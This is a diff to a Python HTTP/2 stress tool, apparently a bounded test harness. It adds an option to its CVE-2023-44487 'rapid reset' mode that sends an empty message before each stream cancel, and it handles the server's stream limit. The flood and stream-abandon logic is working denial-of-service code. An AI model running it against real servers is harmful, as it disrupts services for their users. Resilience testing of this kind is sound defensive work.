@@ -6,7 +6,8 @@ bounded in time and count.
 Modes:
   reset    one connection: HEADERS (no token) then RST_STREAM(CANCEL) on
            stream after stream, as fast as the socket takes them (the
-           "rapid reset" of CVE-2023-44487).
+           "rapid reset" of CVE-2023-44487); --with-message sends an empty
+           message before each reset.
   abandon  one connection: HEADERS without END_STREAM and never a body, so
            each stream stays open until the server gives up on it (more than
            the live-call bound per connection).
@@ -120,6 +121,7 @@ def run_conn(args, deadline, budget):
     sent = 0
     first = None
     opened = []
+    stream_limit = False
     try:
         while c.closed is None and time.monotonic() < deadline and sent < budget:
             for _ in range(args.batch):
@@ -134,9 +136,16 @@ def run_conn(args, deadline, budget):
                     elif args.mode == "abandon":
                         opened.append(sid)
                     else:
+                        if args.with_message:
+                            # The whole request first, so the call reaches
+                            # the handler before the reset.
+                            c.h2.send_data(sid, b"\x00\x00\x00\x00\x00", end_stream=False)
                         c.h2.reset_stream(sid, error_code=8)  # CANCEL
-                except (h2.exceptions.ProtocolError, h2.exceptions.StreamClosedError,
-                        h2.exceptions.TooManyStreamsError):
+                except h2.exceptions.TooManyStreamsError:
+                    # The server's MAX_CONCURRENT_STREAMS: no more for now.
+                    stream_limit = True
+                    break
+                except (h2.exceptions.ProtocolError, h2.exceptions.StreamClosedError):
                     c.closed = c.closed or "h2-refused"
                     break
                 sent += 1
@@ -144,7 +153,7 @@ def run_conn(args, deadline, budget):
                 first = time.monotonic()
             c.flush()
             c.pump()
-            if args.mode in ("abandon", "calls") and sent >= budget:
+            if args.mode in ("abandon", "calls") and (sent >= budget or stream_limit):
                 break
         if args.mode in ("abandon", "calls"):
             # Hold the streams open, reading what the server answers.
@@ -160,6 +169,7 @@ def run_conn(args, deadline, budget):
         except OSError:
             pass
     return {"streams": sent, "survived_ms": survived_ms, "closed": c.closed,
+            "stream_limit": stream_limit,
             "statuses": c.statuses, "reasons": c.reasons, "with_data": len(c.with_data)}
 
 
@@ -175,6 +185,8 @@ def main():
     ap.add_argument("--batch", type=int, default=50, help="streams per write")
     ap.add_argument("--hold", type=float, default=3.0, help="abandon: seconds to hold")
     ap.add_argument("--source", default=None, help="local address to bind (e.g. 127.0.0.2)")
+    ap.add_argument("--with-message", action="store_true",
+                    help="reset/flood: send an empty message before each RST_STREAM")
     args = ap.parse_args()
     args.host, port = args.target.rsplit(":", 1)
     args.port = int(port)
